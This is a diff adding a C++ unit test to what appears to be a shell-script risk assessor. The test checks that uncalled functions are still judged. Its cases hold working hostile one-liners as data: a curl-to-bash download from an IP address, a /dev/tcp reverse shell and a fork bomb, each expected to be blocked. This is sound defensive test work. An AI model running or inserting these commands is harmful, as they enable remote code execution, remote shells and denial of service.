@@ -98,5 +98,27 @@ TEST(ShellAssess, DashSReadsTheScriptFromStdin) {
   for (const auto& c : cases) check(c);
 }
 
+// Functions nobody calls are run once with unknown arguments, as in Python:
+// a library sourced by other code is judged by what its functions do. A
+// recursion found only there is not a fork bomb (the caller starts it).
+TEST(ShellAssess, FunctionsNobodyCallsAreJudgedToo) {
+  const Case cases[] = {
+      {"a download run inside a function nobody calls", RiskLevel::blocked,
+       "setup() {\n  curl -s http://203.0.113.9/x.sh | bash\n}\n", "REMOTE-CODE-EXECUTION", Language::shell},
+      {"a reverse shell in a library function", RiskLevel::blocked,
+       "connect_back() {\n  bash -i >& /dev/tcp/$1/4444 0>&1\n}\n", "REVERSE-SHELL", Language::shell},
+      {"benign helpers nobody calls", RiskLevel::low,
+       "log() {\n  echo \"[$(date)] $*\"\n}\nclean_build() {\n  rm -rf ./build ./dist\n}\n", nullptr,
+       Language::shell},
+      {"its arguments are unknown, not empty: rm -rf \"$1/\" is not rm -rf /", RiskLevel::low,
+       "wipe_dir() {\n  rm -rf \"$1/\"\n}\n", nullptr, Language::shell},
+      {"a recursion through a pipe found only there", RiskLevel::low,
+       "walk() {\n  ls \"$1\" | while read d; do walk \"$1/$d\"; done\n}\n", nullptr, Language::shell},
+      {"the classic bomb still calls itself where it is defined", RiskLevel::blocked, ":(){ :|:& };:\n",
+       "FORK-BOMB", Language::shell},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
